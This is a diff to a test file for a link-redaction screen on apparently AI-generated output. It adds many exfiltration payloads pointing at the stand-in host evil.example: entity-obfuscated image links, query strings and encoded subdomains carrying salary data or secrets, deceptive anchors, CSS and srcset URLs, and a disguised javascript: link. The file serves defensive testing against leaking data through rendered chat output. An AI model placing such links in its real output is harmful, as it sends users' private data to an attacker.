@@ -108,6 +108,50 @@ describe('the output screen', () => {
     expect(verdict).toMatchObject({ outcome: 'redact', text: 'Done. [removed: links] Bye.' });
   });
 
+  it.each([
+    '![x](https&#58;//evil.example/p.png?d=1)',
+    '![x](https&colon;&sol;&sol;evil.example/p.png?d=1)',
+    '[see](https://evil.example/?q=anna%20kern%20salary%2052000%20bonus%204000)',
+    'https://evil.example/?q=anna+kern+salary+52000',
+    '[see](https://evil.example/?d=c2VjcmV0IHBhc3N3b3JkIGlzIGh1)',
+    'https://616e6e61206b65726e2073616c617279.evil.example/',
+    '<a href="https://evil.example/">https://bank.example</a>',
+    '<video poster="https://evil.example/p.png">',
+    '<img srcset=https://evil.example/p.png>',
+    '<div style="background:url(https://evil.example/p.png)">',
+    '<https://evil.example/login|www.bank.example>',
+    '<https://evil.example/?q=anna%20kern%20salary%2052000|policy>',
+    '[click](java&#115;cript:alert)',
+  ])('takes %s away', async (link) => {
+    expect(await screen.check(`See ${link} there.`, context)).toMatchObject({
+      outcome: 'redact',
+      text: 'See [removed: links] there.',
+    });
+  });
+
+  it.each(['<img src="https://evil.example/a.png">', "<img alt='a > b' src='https://evil.example/a.png' />"])(
+    'takes the whole of %s',
+    async (tag) => {
+      expect((await screen.check(`Text ${tag} end.`, context)).text).toBe('Text [removed: links] end.');
+    },
+  );
+
+  it.each([
+    'https://example.com/search?q=holiday+rules+for+parents',
+    'https://github.com/example/repo/pull/4711#discussion_r123456789',
+    'https://www.youtube.com/watch?v=dQw4w9WgXcQ',
+    'https://learn.microsoft.com/en-us/azure/ai-services/openai/how-to/embeddings?tabs=console&view=latest',
+    '<https://wiki.example.com/holidays|the holiday policy>',
+    '<a href="https://wiki.example.com/x?a=1&amp;b=2">wiki.example.com</a>',
+    '<p style="color:red">late</p>',
+    'https://my-service-prod-westeurope.azurewebsites.example/health',
+    'https://www.bing.com/search?q=best+laptops+for+work+2026',
+    'https://wiki.example.com/rules#:~:text=52000%20euros%20is%20the%20limit',
+    'https://example.com/?utm_campaign=SummerSale2026Newsletter',
+  ])('leaves %s', async (link) => {
+    expect((await outcome(`See ${link} there.`))[0]).toBe('pass');
+  });
+
   it('takes a link away whose words name another host, and scripts', async () => {
     expect((await outcome('[www.mybank.com](https://login.evil.example/)'))[1]).toContain('link.pretends');
     expect((await outcome('[click](javascript:alert(1))'))[1]).toContain('link.script');
